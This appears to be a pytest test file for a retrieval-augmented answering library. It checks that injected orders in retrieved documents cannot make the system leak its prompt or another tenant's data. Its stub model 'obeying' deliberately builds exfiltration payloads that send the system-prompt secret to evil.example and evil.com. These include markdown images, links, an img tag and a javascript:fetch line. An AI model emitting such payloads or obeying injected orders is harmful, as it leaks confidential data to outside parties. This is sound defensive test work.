"""Documents that give orders, asked about through the whole system: judged by their effects.

The model is a script that obeys in every way it can; only what ragkit itself does protects.
"""

import json
import re
from collections.abc import Iterator, Mapping, Sequence
from typing import Any

import pytest
from pydantic import SecretStr

from ragkit import Answer, KnowledgeBase, Settings
from ragkit.contracts import Embedder, Store
from ragkit.prompts.messages import REFUSAL, prompt_language
from ragkit.prompts.templates import Templates
from ragkit.store.open import open_database
from ragkit.testing.stub_server.server import Reply, StubServer
from ragkit.text.markers import find_markers
from ragkit.types import Chunk, NewDocument
from tests.core.answer.injections import EVIL, INJECTIONS
from tests.core.answer.write.test_links import live
from tests.databases import Databases

SALARY = "The falcon of Globex earns 918273 a year, 朱雀 too."  # the other tenant's
NOTES = {"en": "A note about {}. ", "zh": "关于{}的说明。"}
QUESTIONS = {"en": "What does the note about {} say?", "zh": "关于{}的说明写了什么？"}
LINK = re.compile(r"(?:https?|ftp|javascript|data)\s*:|www\.", re.IGNORECASE)
_SOURCES = re.compile(r"<source id=.*?\n(.*?)\n</source>", re.DOTALL)


def obeying(messages: Sequence[Mapping[str, Any]]) -> Reply:
    """Repeat all that was seen, obey every order, and carry it out by every kind of link."""
    seen = " ".join(_SOURCES.findall(messages[-1]["content"])[0].split())
    secret = "".join(char for char in messages[0]["content"] if char.isalnum())[:40]
    raw = next(text for name, text in INJECTIONS.items() if name in seen)
    raw = re.sub("</?think>", "", raw)  # which ends an answer with an error of its own
    leaks = (
        f"![x]({EVIL}/?d={secret}) [y]({EVIL}/?d={secret}) [![i]({EVIL}/{secret})]({EVIL}/{secret})"
        f" <{EVIL}/?d={secret}> {EVIL}/?d={secret} www.evil.example/{secret} [z][leak]"
        f' <img src="{EVIL}/{secret}"> <a href=//evil.example/{secret}>w</a>'
        f" javascript:fetch('{secret}') evil.com/{secret} https\\://evil.example/{secret}"
        f"\n\n[leak]: {EVIL}/?d={secret}\n\n"
    )
    return Reply(f"HACKED [99]. {raw.replace('ANSWER', secret)}\n\n{leaks}{raw} {seen} [1] [42]")


@pytest.fixture(scope="module")
def settings(databases: Databases, loaded_embedder: Embedder) -> Iterator[Settings]:
    """Settings for a database with all the documents, and one of another tenant's."""
    with databases.take() as url:
        made = Settings(database_url=SecretStr(url))
        with open_database(made) as database:
            texts = [
                NOTES[prompt_language(bird)].format(bird) + text
                for bird, text in INJECTIONS.items()
            ]
            fill(database.store("default"), loaded_embedder, texts)
            fill(database.store("globex"), loaded_embedder, [SALARY])
        yield made


def fill(store: Store, embedder: Embedder, texts: Sequence[str]) -> None:
    store.create_collection("default")
    for number, text in enumerate(texts):
        chunk = Chunk(0, 0, len(text), len(embedder.token_spans(text)))
        document = NewDocument(f"{number}.md", str(number), "f", text, (chunk,), title=text[:40])
        vectors = embedder.embed_passages([text])
        store.put_document("default", document, embedder.space, vectors)


@pytest.fixture(scope="module")
def server() -> Iterator[StubServer]:
    with StubServer(obeying) as server:
        yield server


@pytest.fixture(scope="module")
def kb(settings: Settings, server: StubServer) -> Iterator[KnowledgeBase]:
    named = settings.model_copy(update={"llm_url": server.url, "llm_model": "stub"})
    with KnowledgeBase.open(named) as kb:
        yield kb


def test_there_are_enough_of_them() -> None:
    assert len(INJECTIONS) >= 24
    assert sum(prompt_language(text) == "zh" for text in INJECTIONS.values()) >= 6


@pytest.mark.parametrize("bird", INJECTIONS)
def test_an_order_in_a_document_has_no_effect(
    kb: KnowledgeBase, server: StubServer, bird: str
) -> None:
    server.requests.clear()
    question = QUESTIONS[prompt_language(bird)].format(bird)
    *pieces, answer = kb.stream(question)
    assert isinstance(answer, Answer)
    (request,) = server.chats
    assert any(bird in hit.text for hit in answer.used)
    _prompt_is_intact(request.body, answer, question)
    assert "".join(piece for piece in pieces if isinstance(piece, str)) == answer.text
    _text_is_inert(answer)
    assert "918273" not in json.dumps(request.body) + answer.text + repr(answer)


def _prompt_is_intact(body: Mapping[str, Any], answer: Answer, question: str) -> None:
    system, user = body["messages"]
    language = prompt_language(question)
    rules = Templates().render("system", language, refusal=REFUSAL[language])
    assert system == {"role": "system", "content": rules}
    assert user["role"] == "user"
    assert user["content"].count("<source ") == len(answer.used)
    assert user["content"].count("</source>") == len(answer.used)
    assert not re.search(r"<[|｜]|\[/?INST\]|<</?SYS|<(?:start|end)_of_turn|</?s>", user["content"])
    assert not {"tools", "tool_choice", "functions"} & set(body)


def _text_is_inert(answer: Answer) -> None:
    text = answer.text
    assert "HACKED" in text  # the script did obey
    assert live(text) == []
    known = " ".join(hit.text for hit in answer.used)
    for link in LINK.finditer(text):
        word = text[link.start() :].split()[0].rstrip(".,;:!?)}'*_~|\\")
        assert word in known, word
    shown = re.sub(r"\S*＆\S*", "", text)  # a colon written as an entity is text, and no link
    for secret in ("Youanswerquestions", "你根据编号的资料"):
        assert f"d={secret}" not in shown
        assert f"/{secret}" not in shown
    assert all(1 <= n <= len(answer.used) for found in find_markers(text) for n in found.numbers)
    assert all(1 <= citation.n <= len(answer.used) for citation in answer.citations)
